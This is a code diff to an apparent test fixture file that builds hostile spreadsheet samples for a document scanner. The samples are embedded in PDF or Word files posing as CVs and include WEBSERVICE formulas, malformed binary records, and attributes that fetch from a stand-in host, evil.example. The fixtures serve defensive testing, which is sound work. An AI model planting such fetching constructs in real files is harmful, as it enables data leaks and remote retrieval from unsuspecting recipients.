@@ -1,5 +1,6 @@
+import { type BinaryRecord, binaryName, binarySheet, calculatedCell, wideText } from '../../support/binary-workbook';
 import { compoundFile } from '../../support/compound-file';
-import { docxFile } from '../../support/docx';
+import { binaryWorkbookType, docxFile } from '../../support/docx';
 import { attachedPdf } from '../../support/pdf/make';
 import { zip } from '../../support/zip';
 import type { Hostile } from './hostile';
@@ -60,8 +61,16 @@ const inPieces = [
   '<f mc:ProcessContent="q:x"><q:x>WEBSERVICE</q:x><q:x>("x")</q:x></f>',
 ];
 
+/** Attributes that name the file of something. */
+const fetched = [
+  '<webPublishItem destinationFile="\\\\evil.example\\share\\a.htm"/>',
+  '<Schema SchemaRef="http://evil.example/a.xsd"/>',
+  '<DataBinding FileBinding="true" FileBindingName="//evil.example/share/a.xml"/>',
+];
+
 const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
   ...places.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'a formula that fetches']),
+  ...fetched.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
   ...inPieces.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'locked or broken']),
   [
     'text of Word in a formula',
@@ -169,6 +178,32 @@ const oldWorkbooks: typeof workbooks = [
   ],
 ];
 
+const inBinary: [what: string, ...records: BinaryRecord[]][] = [
+  ['the name of a function', binaryName('_xlfn.WEBSERVICE')],
+  ['the name of a function in small letters', binaryName('_XLFN.webservice')],
+  ['a name that is a function', binaryName('WEBSERVICE', 0x2)],
+  ['a name that is a newer function', binaryName('WEBSERVICE', 0x20000)],
+  ['a function of an add-in', [667, Buffer.alloc(0)], [361, wideText('EDATE')], [361, wideText('WEBSERVICE')]],
+  ...[148, 149, 150, 267, 379].map((number): (typeof inBinary)[number] => [
+    `function ${number}`,
+    calculatedCell(1, number),
+  ]),
+  ['a function in a condition', [463, Buffer.of(0, 0, 0x22, 1, 148, 0)]],
+  ['a function that is a command', calculatedCell(1, 148 | 0x8000)],
+];
+
+const binaryWorkbooks: typeof workbooks = [
+  ...inBinary.map(([what, ...records]): (typeof workbooks)[number] => [
+    `${what}, in binary form`,
+    binarySheet(records),
+    'a formula that fetches',
+  ]),
+  ['a source, in binary form', binarySheet([[355, wideText('rId1')]]), 'fetched from elsewhere'],
+  ...[[7], [0x80], [0x80, 0x80, 1, 0], [7, 0x80], [7, 0x80, 0x80, 0x80, 0x80, 0], [7, 4, 0, 0, 0]].map(
+    (end): (typeof workbooks)[number] => [`records that end in ${end}`, binarySheet([], end), 'locked or broken'],
+  ),
+];
+
 const attached = (end: string, files: typeof workbooks): Hostile[] =>
   files.map(([what, file, because]) => {
     return { what: `a PDF with a .${end} with ${what}`, name: 'cv.pdf', data: attachedPdf(`a.${end}`, file), because };
@@ -178,4 +213,14 @@ export const hostileWorkbooks: Hostile[] = [
   ...attached('xlsx', workbooks),
   ...attached('ods', openSheets),
   ...attached('xls', oldWorkbooks),
+  ...attached('xlsx', binaryWorkbooks),
+  {
+    what: 'a Word file with a worksheet in binary form with a formula that fetches',
+    name: 'cv.docx',
+    data: docxFile(
+      { 'word/embeddings/a.xlsb': binarySheet([binaryName('_xlfn.WEBSERVICE')]) },
+      { xlsb: binaryWorkbookType },
+    ),
+    because: 'a formula that fetches',
+  },
 ];
